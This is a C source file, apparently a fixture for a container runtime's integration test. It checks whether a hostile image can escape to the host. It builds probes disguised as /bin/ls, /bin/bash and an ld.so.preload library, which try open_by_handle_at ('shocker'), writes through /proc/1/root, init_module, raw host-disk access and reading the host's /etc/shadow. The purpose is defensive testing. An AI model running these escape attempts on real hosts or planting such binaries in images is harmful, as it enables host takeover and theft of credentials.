// What a hostile image plants to take over the host through a debugging session
// (tests/integration/test_default_profile.sh). Every attempt is one line on stdout
// and in /tmp/plants.log of the container: "LABEL: ATTEMPT blocked (ERRNO)" or
// "LABEL: ATTEMPT ESCAPED (...)". The attempts are things host root can do from
// inside the container's namespaces and the container's own root cannot:
//
//   marker-handle  write the host's marker file through open_by_handle_at(2) on a
//                  file system the container shares with the host (a volume, the
//                  /etc/hosts bind mount): the "shocker" escape, CAP_DAC_READ_SEARCH
//   marker-proc    write it through /proc/1/root (the host's root when the
//                  container shares the host's PID namespace)
//   init_module    load a module from an empty buffer: EPERM is the capability check
//                  (or seccomp); anything else (EINVAL, ENOEXEC, ENOSYS on a kernel
//                  without modules) means the call got past both
//   mknod-open     make a node of the host's root disk and open it: the node may be
//                  made (CAP_MKNOD is a container default); the container's device
//                  cgroup must refuse the open
//   shadow         read /proc/1/root/etc/shadow (the host's with a shared PID namespace)
//
// Built four ways: -DPROBE_MAIN (a command: argv[1] is the label), -DPLANT_LS (the
// image's /bin/ls), -DPLANT_BASH (the image's /bin/bash, dynamically linked, so the
// image's /etc/ld.so.preload is loaded into it), -DPLANT_PRELOAD (that library).
// The host specifics come as -D: MARKER_PATH, HANDLE_TYPE, HANDLE_HEX, DISK_MAJOR,
// DISK_MINOR.
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <unistd.h>

#ifndef MARKER_PATH
#error "MARKER_PATH, HANDLE_TYPE, HANDLE_HEX, DISK_MAJOR, DISK_MINOR must be given"
#endif

static void say(const char* label, const char* attempt, int escaped, int err, const char* how) {
  char line[512];
  if (escaped)
    snprintf(line, sizeof line, "%s: %s ESCAPED (%s)\n", label, attempt, how);
  else
    snprintf(line, sizeof line, "%s: %s blocked (%s%s%s)\n", label, attempt, strerrorname_np(err) ? strerrorname_np(err) : "?",
             how[0] ? "; " : "", how);
  fputs(line, stdout);
  fflush(stdout);
  int log = open("/tmp/plants.log", O_WRONLY | O_APPEND | O_CREAT | O_CLOEXEC, 0666);
  if (log >= 0) {
    (void)!write(log, line, strlen(line));
    close(log);
  }
}

static int write_marker(int fd, const char* label) {
  char text[128];
  snprintf(text, sizeof text, "PWNED by %s\n", label);
  int ok = write(fd, text, strlen(text)) == (ssize_t)strlen(text);
  int err = errno;
  close(fd);
  errno = err;
  return ok;
}

static void try_handle(const char* label) {
  const char* hex = HANDLE_HEX;
  size_t n = strlen(hex) / 2;
  struct file_handle* h = malloc(sizeof *h + n);
  h->handle_bytes = (unsigned)n;
  h->handle_type = HANDLE_TYPE;
  for (size_t i = 0; i < n; ++i) {
    unsigned v = 0;
    sscanf(hex + 2 * i, "%2x", &v);
    h->f_handle[i] = (unsigned char)v;
  }
  const char* mounts[] = {"/vol", "/etc/hosts", "/etc/resolv.conf", "/etc/hostname"};
  int err = ENOENT;
  for (size_t i = 0; i < sizeof mounts / sizeof *mounts; ++i) {
    int mfd = open(mounts[i], O_RDONLY | O_CLOEXEC);
    if (mfd < 0) continue;
    int fd = (int)syscall(SYS_open_by_handle_at, mfd, h, O_WRONLY | O_APPEND | O_CLOEXEC);
    err = errno;
    close(mfd);
    if (fd >= 0 && write_marker(fd, label)) {
      char how[128];
      snprintf(how, sizeof how, "wrote the host's marker through %s", mounts[i]);
      say(label, "marker-handle", 1, 0, how);
      free(h);
      return;
    }
    if (fd >= 0) err = errno;
  }
  free(h);
  say(label, "marker-handle", 0, err, "");
}

static void try_proc_marker(const char* label) {
  int fd = open("/proc/1/root" MARKER_PATH, O_WRONLY | O_APPEND | O_CLOEXEC);
  if (fd >= 0 && write_marker(fd, label)) {
    say(label, "marker-proc", 1, 0, "wrote the host's marker through /proc/1/root");
    return;
  }
  say(label, "marker-proc", 0, errno, "");
}

static void try_init_module(const char* label) {
  long r = syscall(SYS_init_module, "", 0UL, "");
  int err = errno;
  if (r < 0 && err == EPERM) {
    say(label, "init_module", 0, err, "");
    return;
  }
  char how[64];
  snprintf(how, sizeof how, "%s: past the capability check", r == 0 ? "loaded" : strerrorname_np(err));
  say(label, "init_module", 1, 0, how);
}

static void try_disk(const char* label) {
  char node[64];
  snprintf(node, sizeof node, "/tmp/.disk-%d", (int)getpid());
  if (mknod(node, S_IFBLK | 0600, makedev(DISK_MAJOR, DISK_MINOR)) < 0) {
    say(label, "mknod-open", 0, errno, "mknod refused");
    return;
  }
  int fd = open(node, O_RDONLY | O_CLOEXEC | O_NONBLOCK);
  int err = errno;
  unlink(node);
  if (fd >= 0) {
    char buf[512];
    ssize_t n = read(fd, buf, sizeof buf);
    close(fd);
    char how[96];
    snprintf(how, sizeof how, "opened the host's disk %d:%d, read %zd bytes", DISK_MAJOR, DISK_MINOR, n);
    say(label, "mknod-open", 1, 0, how);
    return;
  }
  say(label, "mknod-open", 0, err, "mknod made the node, open refused");
}

static void try_shadow(const char* label) {
  int fd = open("/proc/1/root/etc/shadow", O_RDONLY | O_CLOEXEC);
  if (fd >= 0) {
    char buf[64];
    ssize_t n = read(fd, buf, sizeof buf);
    close(fd);
    char how[64];
    snprintf(how, sizeof how, "read %zd bytes of /proc/1/root/etc/shadow", n);
    say(label, "shadow", 1, 0, how);
    return;
  }
  say(label, "shadow", 0, errno, "");
}

static void run_escapes(const char* label) {
  try_handle(label);
  try_proc_marker(label);
  try_init_module(label);
  try_disk(label);
  try_shadow(label);
}

#if defined(PROBE_MAIN)
int main(int argc, char** argv) {
  run_escapes(argc > 1 ? argv[1] : "probe");
  return 0;
}
#elif defined(PLANT_LS)
int main(void) {
  run_escapes("ls");
  puts("PLANTED-LS");
  return 0;
}
#elif defined(PLANT_BASH)
int main(int argc, char** argv) {
  run_escapes("bash");
  argv[0] = "sh";
  execv("/busybox/sh", argv);
  return 127;
}
#elif defined(PLANT_PRELOAD)
__attribute__((constructor)) static void planted(void) { run_escapes("ld.so.preload"); }
#else
#error "one of PROBE_MAIN, PLANT_LS, PLANT_BASH, PLANT_PRELOAD"
#endif
